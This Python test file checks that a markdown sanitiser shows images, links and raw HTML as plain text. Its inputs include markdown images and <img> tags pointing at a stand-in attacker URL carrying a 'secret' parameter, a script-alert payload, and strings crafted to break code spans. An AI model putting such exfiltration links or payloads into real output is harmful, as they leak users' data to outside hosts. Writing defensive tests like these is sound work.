"""Safe rendering: no message makes the browser fetch an image or run HTML."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app_pages.rendering import plain_label, safe_markdown

# A renderer that passes raw HTML through (stricter than Streamlit's, which drops it),
# with the GitHub tables and strikethrough Streamlit renders.
HTML = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
LEAK = "https://attacker.example/?d=secret"


def html_of(text: str) -> str:
    return HTML.render(safe_markdown(text))


def test_inline_and_reference_images_are_never_images() -> None:
    for text in (
        f"Here: ![chart]({LEAK})",
        f'![]({LEAK} "title")',
        f"![chart][r]\n\n[r]: {LEAK}",
        f"![chart]\n\n[chart]: {LEAK}",
        f"<img src='{LEAK}'>",
        f'<p><img src="{LEAK}"/></p>',
    ):
        rendered = html_of(text)
        assert "<img" not in rendered, (text, rendered)
        assert "attacker.example" in rendered  # what it was is shown, as text


def test_an_image_names_itself_and_its_address() -> None:
    assert safe_markdown(f"![chart]({LEAK})") == f"[image not loaded: chart] (`{LEAK}`)"


def test_links_show_their_target() -> None:
    shown = safe_markdown("See [the docs](https://docs.example/x) now.")
    assert shown == "See [the docs](https://docs.example/x) (`https://docs.example/x`) now."
    assert safe_markdown("[https://a.example](https://a.example)") == (
        "[https://a.example](https://a.example)"
    )
    hidden = html_of(f"[harmless][r]\n\n[r]: {LEAK}")
    assert "<a " not in hidden and "attacker.example" in hidden  # shown, not a hidden link


def test_html_is_shown_as_text() -> None:
    rendered = html_of("<script>alert(1)</script> and <b>bold</b>")
    assert "<script>" not in rendered and "<b>" not in rendered
    assert "&lt;script&gt;" in rendered


def test_code_is_left_exactly_as_written() -> None:
    text = (
        "Use `![x](y)` inline.\n\n```html\n<img src='a.png'>\n![x](y)\n```\n\n    <b>indented</b>\n"
    )
    shown = safe_markdown(text)
    assert "`![x](y)`" in shown
    assert "```html\n<img src='a.png'>\n![x](y)\n```" in shown
    assert "    <b>indented</b>" in shown
    assert "<img" not in html_of(text).replace("&lt;img", "")  # only as code text


def test_text_built_to_misplace_a_code_span_is_escaped_whole() -> None:
    for text in ("`\n`<img src=x>`", "\\`<img src=x>`", "`\n\n<img src=x>`", "`<img src=x>```"):
        rendered = html_of(text)
        assert "<img" not in rendered, (text, rendered)


def test_an_image_hidden_in_a_table_cell_is_caught() -> None:
    text = f"| h | i |\n|---|---|\n| `a | ![x]({LEAK}) b` |\n"
    assert "<img" not in html_of(text)


def test_titles_show_as_the_characters_they_are() -> None:
    title = f"![]({LEAK}) **bold** <b>x</b> [a](b) | c"
    rendered = HTML.render(plain_label(title))
    assert "<img" not in rendered and "<strong>" not in rendered and "<a " not in rendered
    assert "<b>" not in rendered
    text_only = re.sub(r"<[^>]+>", "", rendered).strip()
    assert text_only.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"') == title


def test_plain_text_is_unchanged() -> None:
    text = "# Title\n\n- one\n- **two** and *three*\n\n1 < 2 and 3 > 2; a [bracket] here."
    assert safe_markdown(text) == text


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "![",
                "](",
                ")",
                "[",
                "]",
                ":",
                "<img src=x>",
                "<",
                "`",
                "```",
                "\n",
                " ",
                LEAK,
                "a",
                "!",
                '"t"',
                "\\",
                "<https://x.example>",
                "|",
                "\n|---|---|\n",
            ]
        ),
        max_size=30,
    ).map("".join)
)
def test_no_text_renders_an_image_or_a_tag(text: str) -> None:
    rendered = html_of(text)
    assert not re.search(r"<img\b", rendered), (text, rendered)
    assert not re.search(
        r"<(?!/?(p|a|code|pre|em|strong|br|ul|ol|li|h\d|hr|blockquote"
        r"|table|thead|tbody|tr|th|td|s)\b)[a-z]",
        rendered,
    ), (
        text,
        rendered,
    )
